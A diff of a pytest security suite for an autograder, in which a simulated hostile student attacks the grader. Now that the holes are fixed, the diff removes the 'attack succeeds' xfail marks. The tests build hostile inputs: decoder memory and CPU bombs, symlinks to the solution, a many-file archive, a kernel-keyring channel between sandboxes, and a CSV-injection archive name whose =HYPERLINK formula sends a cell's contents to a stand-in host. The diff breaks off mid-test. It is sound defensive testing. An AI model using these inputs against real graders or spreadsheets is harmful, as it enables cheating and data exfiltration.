@@ -1,8 +1,7 @@
 """More of a hostile student against the autograder (see tests/test_grader_isolation.py for the first suite).
 
 Each test runs one attack and asserts that it gains, leaks or harms nothing. An attack that
-succeeds on this tree is marked ``xfail(strict=True, reason="ATTACK SUCCEEDS: ...")``: the test
-then fails once the hole is closed, so that the mark is removed with the fix.
+succeeded once was fixed, and its test holds the fix.
 """
 import hashlib
 import json
@@ -10,25 +9,23 @@ import os
 import resource
 import shutil
 import sys
-import threading
 import time
 import zipfile
 from pathlib import Path
 
-import numpy as np
 import pytest
 
 from grading import batch, gradescope, sandbox
 from grading import worker as wire
-from grading.boundary import MIB, Limits, Pool, StudentError, WorkerFailure
+from grading.boundary import Limits, Pool, WorkerFailure
 from helpers.core import config
 from helpers.handin import submission
 
 sys.path.insert(0, str(config.REPO_ROOT / "tests"))
-from test_grader_isolation import student_copy  # noqa: E402
 
 REPO = config.REPO_ROOT
 needs_sandbox = pytest.mark.skipif(not sandbox.probe().sandbox, reason="no bubblewrap sandbox here")
+needs_cgroup = pytest.mark.skipif(not sandbox.probe().cgroup.startswith("cgroup"), reason="no cgroup for the grader here")
 
 PROBE = '''
 import os, stat, sys, time
@@ -117,9 +114,6 @@ def _maxrss_mib() -> float:
     return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: a reply within the 64 MiB cap decodes into ~25x its size in "
-                                       "the trusted grader (grading/worker.py decode: a JSON dict + two lists per "
-                                       "12 bytes), unbounded by any limit of the grader's own process")
 def test_a_reply_within_the_cap_does_not_blow_up_in_the_graders_memory(probe_copy):
     """The grader's memory for one reply should stay within a few times the reply cap (64 MiB)."""
     import subprocess
@@ -142,9 +136,6 @@ pool.close()
     assert grown_mib < 4 * 64, f"a 40 MiB reply grew the grader by {grown_mib:.0f} MiB ({run.stderr[-300:]})"
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: decoding is not bounded by the remaining budget; the "
-                                       "budget is checked only after decode ends (grading/boundary.py Worker._receive), "
-                                       "so a 6 MiB reply of generators takes ~4 s of the grader's CPU past a 1 s budget")
 def test_decoding_a_reply_stays_within_the_functions_time_budget(probe_copy):
     pool = Pool(probe_copy, Limits(time_s=1, memory=1 << 30))
     try:
@@ -157,9 +148,6 @@ def test_decoding_a_reply_stays_within_the_functions_time_budget(probe_copy):
     assert elapsed < 1 + 1.5, f"a 1 s budget ended after {elapsed:.1f} s"
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS (robustness): decode lets OverflowError out (int(inf) of a "
-                                       "handle; an MT19937 'pos' over a C int): not a WireError, so the worker is "
-                                       "not failed nor retired and the test sees a raw OverflowError")
 def test_an_infinite_handle_is_a_malformed_reply(probe_copy):
     pool = Pool(probe_copy, Limits(time_s=20))
     try:
@@ -169,46 +157,32 @@ def test_an_infinite_handle_is_a_malformed_reply(probe_copy):
         pool.close()
 
 
-OVERFLOWS = pytest.mark.xfail(strict=True, raises=OverflowError,
-                              reason="ATTACK SUCCEEDS (robustness): OverflowError escapes decode (grading/worker.py "
-                                     "decode catches ValueError, TypeError, ... but not OverflowError)")
-
-
 @pytest.mark.parametrize("tree", [
-    pytest.param({"handle": float("inf")}, marks=OVERFLOWS, id="handle-infinity"),
+    pytest.param({"handle": float("inf")}, id="handle-infinity"),
     pytest.param({"generator": {"bit_generator": "MT19937", "state": {"key": [0] * 624, "pos": 1 << 40}}},
-                 marks=OVERFLOWS, id="mt19937-pos-over-c-int"),
+                 id="mt19937-pos-over-c-int"),
     pytest.param({"generator": {"bit_generator": "PCG64", "state": {"state": 1 << 200, "inc": 1}, "has_uint32": 0,
-                                "uinteger": 0}}, marks=OVERFLOWS, id="pcg64-state-over-128-bits"),
+                                "uinteger": 0}}, id="pcg64-state-over-128-bits"),
     pytest.param({"handle": "1" * 5000}, id="handle-of-5000-digits"),
-    pytest.param({"dtype": {"names": ["a"], "formats": ["O"]}}, id="object-dtype", marks=pytest.mark.xfail(
-        strict=True, raises=AssertionError, reason="ATTACK SUCCEEDS (low): decode's 'dtype' kind takes any np.dtype() "
-        "spec (object fields, records), unlike arrays (ARRAY_KINDS); harmless while no test builds arrays from it")),
+    pytest.param({"dtype": {"names": ["a"], "formats": ["O"]}}, id="object-dtype"),
 ])
 def test_malformed_numbers_in_a_reply_raise_wire_errors(tree):
     header = json.dumps({"tree": tree, "arrays": []}).encode()
     body = wire.HEADER.pack(len(header)) + header
-    try:
-        value = wire.decode(body)
-    except wire.WireError:
-        return
-    assert not isinstance(value, np.dtype) or not value.hasobject, value  # a dtype is only a description
+    with pytest.raises(wire.WireError):
+        wire.decode(body)
 
 
-def test_a_generator_with_an_out_of_range_position_is_accepted_but_never_drawn_from_by_the_grader():
-    """An MT19937 state with ``pos`` past its key decodes (numpy does not check it); drawing from it would read the
-    grader's memory out of bounds. No graded test draws from a generator a student returned: noted, not exploitable."""
+def test_a_generator_with_an_out_of_range_position_is_refused():
+    """An MT19937 state with ``pos`` past its key would make a draw read memory out of bounds: refused."""
     header = json.dumps({"tree": {"generator": {"bit_generator": "MT19937",
                                                 "state": {"key": [0] * 624, "pos": 100000}}}, "arrays": []}).encode()
-    decoded = wire.decode(wire.HEADER.pack(len(header)) + header)
-    assert isinstance(decoded, np.random.Generator) and decoded.bit_generator.state["state"]["pos"] == 100000
+    with pytest.raises(wire.WireError, match="position"):
+        wire.decode(wire.HEADER.pack(len(header)) + header)
 
 
 # ----------------------------------------------------------------------------- CPU beyond the budget
-@needs_sandbox
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: a worker that answers at once while its children compute "
-                                       "spends CPU that no budget counts (the budget is the grader's wait for "
-                                       "replies; RLIMIT_CPU is per process; the cgroup has no cpu controller)")
+@needs_cgroup
 def test_a_worker_cannot_compute_more_than_its_budget_between_requests(probe_copy):
     limits = Limits(time_s=2, memory=1 << 30, processes=16)
     pool = Pool(probe_copy, limits)
@@ -216,11 +190,14 @@ def test_a_worker_cannot_compute_more_than_its_budget_between_requests(probe_cop
         probe = pool.student_for("probe")
         assert probe.call("probe.spin_in_background", 8) == "answered"
         time.sleep(8)  # the grader's own work between two requests (torch's side of the comparisons)
-        spun = probe.call("probe.spun")
-        spent = limits.time_s - pool.workers["probe"].budget_s
+        try:
+            spun = probe.call("probe.spun")
+        except WorkerFailure as failure:  # the CPU its processes used was charged to its budget: spent
+            assert "timed out" in str(failure)
+            return
     finally:
         pool.close()
-    assert spun <= limits.time_s, f"{spun:.1f} CPU seconds computed on a budget of {limits.time_s} s ({spent:.2f} s spent)"
+    assert spun <= limits.time_s, f"{spun:.1f} CPU seconds computed on a budget of {limits.time_s} s"
 
 
 # ----------------------------------------------------------------------------- between sandboxes
@@ -249,10 +226,6 @@ def get(name):
 
 
 @needs_sandbox
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: every root-graded sandbox runs as uid 65534 in the host's user "
-                                       "namespace with no seccomp filter, so all share uid 65534's kernel user keyring "
-                                       "(add_key/keyctl), which outlives each sandbox: a channel between students and "
-                                       "from one grade's hidden phase to a later grade's visible messages")
 def test_one_sandbox_leaves_nothing_for_another_in_the_kernel_keyring(tmp_path):
     name = f"hidden-inputs-{os.getpid()}-{time.monotonic_ns()}"
     copies = []
@@ -282,9 +255,6 @@ def _gradescope_root(tmp_path: Path) -> Path:
     return root
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: find_student follows a linked folder in the upload "
-                                       "(grading/gradescope.py find_student: Path.is_dir/is_file follow links; "
-                                       "grader.grade resolves the path and checks only helpers/ for a link)")
 @pytest.mark.parametrize("link", ["source", "anything"])
 def test_a_link_in_the_upload_to_the_solution_earns_nothing(tmp_path, link):
     """A GitHub-linked (or unzipped) Gradescope upload may hold symbolic links: one to the autograder's own
@@ -303,10 +273,6 @@ def test_a_link_to_the_solution_as_helpers_is_refused(tmp_path):
 
 
 # ----------------------------------------------------------------------------- grade-all's names
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: student_ids (grading/batch.py) suffixes colliding ids once "
-                                       "but never checks the suffixed ids against the others: a third archive named "
-                                       "like a suffixed id takes it, and feedback/<id>.md of one student overwrites "
-                                       "the other's")
 def test_no_two_archives_get_one_student_id():
     suffix = hashlib.sha256(b"alice.zip").hexdigest()[:8]
     archives = [Path("alice.zip"), Path("Alice.zip"), Path(f"alice-{suffix}.zip")]
@@ -335,9 +301,6 @@ def _archive(path: Path, members: dict[str, bytes]) -> Path:
     return path
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: open_source bounds the unpacked bytes but not the member "
-                                       "count: every member is written (and fsynced: artifacts.atomic_write) before "
-                                       "copy_tree's 2000-file limit, outside any time bound of the grade")
 def test_an_archive_of_many_empty_files_is_refused_before_it_is_unpacked(tmp_path):
     members = {"source/helpers/__init__.py": b""} | {f"source/helpers/f{i}.py": b"" for i in range(3000)}
     archive = _archive(tmp_path / "many.zip", members)
@@ -381,11 +344,6 @@ def test_a_symlink_member_is_unpacked_as_a_plain_file(tmp_path):
     assert not (opened.source / "helpers" / "nn").is_symlink()
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: an archive whose members make a file and a folder of one "
-                                       "path (source/helpers/x and source/helpers/x/y.py) raises FileExistsError in "
-                                       "_unpack (artifacts.atomic_write's mkdir); gradescope.run catches only "
-                                       "SubmissionError, UnsafeCopy, FileNotFoundError and RuntimeError, so no "
-                                       "results.json is written and the traceback is the run's output")
 def test_gradescope_writes_results_for_an_archive_with_a_file_where_a_folder_goes(tmp_path):
     root = _gradescope_root(tmp_path)
     _archive(root / "submission" / "submission.zip", {"source/helpers/__init__.py": b"", "source/helpers/x": b"",
@@ -395,9 +353,6 @@ def test_gradescope_writes_results_for_an_archive_with_a_file_where_a_folder_goe
     assert (root / "results" / "results.json").is_file()
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK SUCCEEDS: gradebook.csv writes the archive's file name (and the "
-                                       "reason) as is: a name starting with = + - @ is a formula to a spreadsheet "
-                                       "(CSV injection; grading/batch.py gradebook_csv)")
 def test_the_gradebook_holds_no_formula_from_an_archive_name():
     record = {"student": "x", "archive": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\").zip",
               "status": "refused", "reason": "refused", "results": {}, "consistency": "", "inference": "",
